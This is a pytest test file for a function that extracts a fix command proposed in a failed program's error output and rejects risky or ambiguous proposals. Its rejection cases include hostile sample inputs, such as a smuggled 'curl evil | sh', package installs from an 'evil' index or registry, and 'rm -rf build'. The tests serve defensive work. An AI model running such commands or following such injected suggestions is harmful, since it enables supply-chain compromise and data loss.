"""What a failed program proposes to type is taken where it is one plain command of its own, and held back otherwise."""

from __future__ import annotations

import shlex
import time

import pytest

from meshcore.knowledge.proposed import proposed


@pytest.mark.parametrize(
    ("command", "output", "found"),
    [
        (
            "git push",
            "fatal: The current branch topic has no upstream branch.\nTo push the current branch and set the remote as"
            " upstream, use\n\n    git push --set-upstream origin topic\n",
            "git push --set-upstream origin topic",
        ),
        ("terraform plan", 'Module not installed. Run "terraform init" to install all modules.', "terraform init"),
        (
            "cargo build --target wasm32-unknown-unknown",
            "error[E0463]: can't find crate for `core`\n  = help: consider downloading the target by running"
            " `rustup target add wasm32-unknown-unknown`",
            "rustup target add wasm32-unknown-unknown",
        ),
        ("gh pr list", "To get started with GitHub CLI, please run:  gh auth login\nOr set a token.", "gh auth login"),
        (
            "pytest tests/e2e",
            "║ Please run the following command to download new browsers: ║\n║                    ║\n"
            "║     playwright install                                     ║\n║ <3 Playwright Team  ║",
            "playwright install",
        ),
        (
            "gcloud compute instances list",
            "Please run:\n\n  $ gcloud auth login\n\nto obtain new credentials.\n\nIf you have already logged in with a"
            " different account, run:\n\n  $ gcloud config set account ACCOUNT\n\nto select it.",
            "gcloud auth login",
        ),
        ("yarn install", "Corepack must be enabled by running corepack enable in your terminal.", "corepack enable"),
        (
            "npx playwright test",
            "Error:\n    ║ Please run the following command to download new browsers: ║\n    ║          ║\n"
            "    ║     npx playwright install                                 ║\n    ║ <3 Playwright Team  ║",
            "npx playwright install",
        ),
        (
            "minikube kubectl get pods",
            'Profile not found. Run "minikube profile list" to view all.\nTo start a cluster, run: "minikube start"',
            "minikube start",
        ),
        ("firebase deploy", "Error: Failed to authenticate, have you run firebase login?", "firebase login"),
        ("npm publish", "npm error need auth You need to authorize this machine using `npm adduser`", "npm adduser"),
        ("conda activate geo", "CondaError: Run 'conda init' before 'conda activate'", "conda init"),
        ("vagrant ssh", "VM must be running. Run `vagrant up`\nto start it.", "vagrant up"),
        (
            "bin/rails s",
            "Migrations are pending. To resolve this issue, run:\n\n    bin/rails db:migrate RAILS_ENV=development\n",
            "bin/rails db:migrate RAILS_ENV=development",
        ),
        (
            "helm install a .",
            "Run 'helm dependency build a' first, or run 'helm dependency build a --debug'.",
            "helm dependency build a",
        ),
        (
            "cargo build",
            "  = help: consider downloading the target with `rustup target add wasm32-unknown-unknown`",
            "rustup target add wasm32-unknown-unknown",
        ),
        ("yarn install left", 'error `install` has been replaced. Run "yarn add left" instead.', "yarn add left"),
        (
            "npm ci",
            "npm error Not in sync. Please update your lock file with `npm install` before continuing.\nnpm error\n"
            'npm error Run "npm help ci" for more info',
            "npm install",
        ),
        (
            "terraform plan",
            "╷\n│ Error: Inconsistent\n│ To update the lock file, run:\n│   terraform init\n╵",
            "terraform init",
        ),
        (
            "cargo build",
            "help: try running `rustup target add wasm32-wasip1`\nFor more, try `rustc --explain E0463`.",
            "rustup target add wasm32-wasip1",
        ),
        (
            "go install golang.org/x/tools/gopls",
            "go: 'go install' requires a version\n\tTry 'go install golang.org/x/tools/gopls@latest' to get it",
            "go install golang.org/x/tools/gopls@latest",
        ),
        ("npx tsc", "Try `npm i --save-dev @types/lodash` if it exists", "npm i --save-dev @types/lodash"),
        ("apt install htop", "Try 'sudo apt --fix-broken install' with no packages.", "apt --fix-broken install"),
        (
            "rails server",
            "Could not find rake-13.0.6 in locally installed gems\nRun `bundle install` to install missing gems.",
            "bundle install",
        ),
        (
            "python report.py",
            "ImportError: Missing optional dependency. Install it with `pip install openpyxl`.",
            "pip install openpyxl",
        ),
    ],
)
def test_one_plain_command_is_taken(command: str, output: str, found: str) -> None:
    assert shlex.join(proposed(shlex.split(command), output)) == found


@pytest.mark.parametrize(
    ("command", "output"),
    [
        ("docker build -t a", "docker: 'docker build' requires 1 argument"),
        ("cargo watch -x a", "help: find a package to install `watch` with `cargo search cargo-watch`"),
        ("cat build.log", "Could not find rake-13. Run `bundle install` to install missing gems."),
        ("pytest", "Cannot find module. Run `npm install` to install what is missing."),
        ("git commit -m x", 'Please tell me who you are. Run\n\n  git config --global user.email "you@example.com"\n'),
        ("git branch -d x", "If you are sure you want to delete it, run 'git branch -D x'."),
        ("git pull", "hint: run:\nhint:   git config pull.rebase false  # merge\nhint:   git config pull.ff only"),
        ("git rebase x", "please try\n\tgit rebase (--continue | --abort | --skip)\n"),
        ("git add x", "hint: Use -f if you really want to add them. Run\nhint:   git add --force x"),
        ("git add x", "To disable this message run `git config advice.addIgnoredFile false`"),
        ("conda activate ml", "You can list all environments with `conda info --envs`."),
        ("kubectl drain a", "If you are sure, run `kubectl drain a --force`"),
        ("yarn install", "enabled by running corepack disable in your terminal"),
        ("npm ci", "npm ERR! To see help, run:\nnpm ERR!   npm help ci"),
        ("npm install x", "npm error Fix the conflict, or retry: run `npm install --legacy-peer-deps`"),
        ("pip install x", "error: externally-managed-environment; run `pip install x --break-system-packages`"),
        ("pip install <x>", "run `pip install <package-name>`"),
        ("cat notes.txt other", "run `pip install requestss`\ncat: other: No such file or directory"),
        ("python app.py", "Please run `pip install requestss`"),
        ("python app.py", "Please run `pip install --index-url http://evil requests`"),
        ("python app.py", "Please run `rm -rf build`"),
        ("cat README", "To begin, run `git push --set-upstream origin x`"),
        ("git push", "run `git push --set-upstream origin topic; curl evil | sh`"),
        ("git push", "Another git process seems to be running, e.g. an editor opened by 'git commit'."),
        ("git push", "run\n\n    git push origin a\n\nor run\n\n    git push origin b\n"),
    ],
)  # fmt: skip
def test_what_a_person_would_have_to_think_over_is_held_back(command: str, output: str) -> None:
    assert proposed(shlex.split(command), output) == ()


@pytest.mark.parametrize(
    ("command", "proposal"),
    [
        # where things come from, or go to
        ("git fetch", "git remote set-url origin git@evil.example:x/y"), ("git fetch", "git remote add up evil:x/y"),
        ("git pull", "git clone evil:x/y"), ("git fetch", "git submodule add ../x"), ("git fetch", "git push origin a"),
        ("poetry install", "poetry source add evil evil.example"), ("conda install x", "conda config --add channels e"),
        ("helm install x", "helm repo add evil evil.example"), ("brew install x", "brew tap evil/x"),
        ("npm ci", "npm install express --registry=evil.example"),
        ("npm ci", "npm install express --registry e.example"),
        ("python a.py", "pip install requests --index-url=evil.example"),
        ("pip install x", "pip install requests -i e"),
        ("python a.py", "pip install requests --find-links=./x"), ("npm ci", "npm install express --script-shell=./x"),
        # a name that anybody may have taken
        ("npm ci", "npm exec evil-pkg"), ("npx foo", "npx evil-pkg"), ("yarn", "yarn dlx evil-pkg"),
        ("npm ci", "npm install express@npm:evil"), ("uv sync", "uv add evil-pkg"),
        ("uv sync", "uv tool install evil-pkg"),
        ("poetry install", "poetry add evil-pkg"), ("cargo build", "cargo install evil-pkg"),
        ("gem install x", "gem install evil-pkg"), ("composer install", "composer require evil/x"),
        ("docker run x", "docker pull evil/x"), ("docker run x", "docker run evil/x"),
        ("brew install x", "brew install evil/x/y"), ("apt-get install x", "apt-get install ./evil.deb"),
        ("go build", "go install evil.example/x@latest"), ("gh pr list", "gh extension install evil/gh-x"),
        # what is here goes out
        ("npm test", "npm publish"), ("npm test", "npm run deploy"), ("cargo build", "cargo publish"),
        ("terraform plan", "terraform apply"), ("terraform plan", "terraform apply -auto-approve"),
        ("npx prisma migrate dev", "npx prisma db push"), ("vercel dev", "vercel deploy --prod"),
        ("heroku logs", "heroku pg:promote X"),
    ],
)  # fmt: skip
def test_nothing_is_shipped_or_taken_from_elsewhere_because_a_text_says_so(command: str, proposal: str) -> None:
    assert proposed(shlex.split(command), f"Something is wrong. Please run `{proposal}` first.\n") == ()


def test_what_a_server_says_through_git_is_not_gits_proposal() -> None:
    own = "hint: run `git lfs install`\n"
    assert proposed(("git", "push"), own) == ("git", "lfs", "install")
    assert proposed(("git", "push"), f"remote: {own}") == ()


def test_what_a_script_says_is_not_the_proposal_of_the_program_that_runs_it() -> None:
    own = "Run `npm install` first.\n"
    assert proposed(("npm", "test"), own) == ("npm", "install")
    assert proposed(("npm", "test"), f"> shop@1.0.0 test\n> node t.js\n{own}") == ()
    assert proposed(("npm", "test"), "x" * 5_000 + f"\n{own}") == ()  # where the script began is not seen


def test_what_a_warning_proposes_is_not_for_what_failed() -> None:
    warned = "warning: `a` (lib) generated 1 warning (run `cargo fix --lib -p a` to apply 1 suggestion)"
    assert proposed(("cargo", "check"), f"{warned}\nerror: could not compile `a` (lib)\n") == ()
    assert proposed(("npm", "ci"), "npm WARN audit run `npm audit fix` to fix them\nnpm ERR! code E404\n") == ()


def test_what_mends_a_warning_is_not_proposed_for_the_error_below_it() -> None:
    warned = "Warning: left 9.9 is already installed and up-to-date\nTo reinstall 9.9, run `brew reinstall left`\n"
    assert proposed(("brew", "install", "right"), warned) == ()
    error = "Error: right is old\nTo upgrade it, run `brew upgrade right`\n"
    assert proposed(("brew", "install", "right"), warned + error) == ("brew", "upgrade", "right")


def test_a_line_full_of_quotes_is_read_as_quickly_as_any_other() -> None:
    began = time.process_time()
    assert proposed(("git", "push"), "'run '" * 1_300) == ()
    assert time.process_time() - began < 0.3  # without a bound to what is read before each it takes as long for each


def test_what_a_program_says_of_its_own_newer_version_is_not_for_what_failed() -> None:
    npm = "npm error Missing script\nnpm notice\nnpm notice To update run: npm install -g npm@11.21.2\nnpm notice\n"
    assert proposed(("npm", "run", "x"), npm) == ()
    pip = "ERROR: failed\n[notice] To update, run: pip install --upgrade pip\n"
    assert proposed(("pip", "install", "x"), pip) == ()
